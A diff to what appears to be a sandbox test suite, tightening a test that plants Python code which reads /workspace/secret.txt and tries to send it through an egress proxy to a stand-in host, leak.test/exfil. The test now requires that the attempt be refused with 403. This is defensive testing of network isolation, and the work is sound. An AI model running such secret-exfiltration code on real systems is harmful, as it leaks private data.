@@ -512,9 +512,10 @@ def test_a_session_without_network_gets_private_datasets_only_once_private(tmp_p
 # once the connector hands its data over, sends it out through the egress proxy.
 _START_WINDOW_PLANT = r"""
 import os, sys, time, socket, importlib
-_dir = "/.sandbox_kernel/egress"
-_sock = next((_dir + "/" + n for n in os.listdir(_dir)), None) if os.path.isdir(_dir) else None
-if _sock:
+# the proxy's socket and the token it asks for first (without it, it refuses
+# whether cut or not: an attack review found this test could not fail)
+_sock = os.environ.get("SANDBOX_KERNEL_EGRESS_SOCKET"); _token = os.environ.get("SANDBOX_KERNEL_EGRESS_TOKEN")
+if _sock and _token:
     for _ in range(4000):
         if os.path.exists("/workspace/secret.txt"):
             break
@@ -523,6 +524,7 @@ if _sock:
         data = open("/workspace/secret.txt").read().replace(" ", "_")
         try:
             s = socket.socket(socket.AF_UNIX); s.connect(_sock)
+            s.sendall(b"SK-EGRESS " + _token.encode() + b"\r\n")
             s.sendall(("GET http://leak.test:%s/exfil/" + data + " HTTP/1.1\r\nHost: leak.test\r\n\r\n").encode())
             open("/workspace/leak.txt", "w").write(s.recv(200).decode(errors="replace"))
         except OSError as e:
@@ -568,7 +570,8 @@ def test_a_rise_while_a_sandbox_starts_is_not_reported_cut_before_it_is(tmp_path
         time.sleep(0.5)
         assert not [path for path in origin.heard if "exfil" in path], origin.heard
         leak = k.workspace / "leak.txt"
-        assert not leak.exists() or "200" not in leak.read_text().split("\r\n")[0], leak.read_text()
+        assert leak.exists(), "the planted module never saw the data: the test proves nothing"
+        assert leak.read_text().splitlines()[0].endswith("403 Forbidden"), leak.read_text()  # the cut proxy's answer
         assert k.run(IFACES).stdout.strip() == "['lo']"
         last = k.run("print(x + 1)", stop_on_error=False)
         assert last.stdout.strip() == "42", (last.stdout, last.stderr, last.errors)  # the state carried over
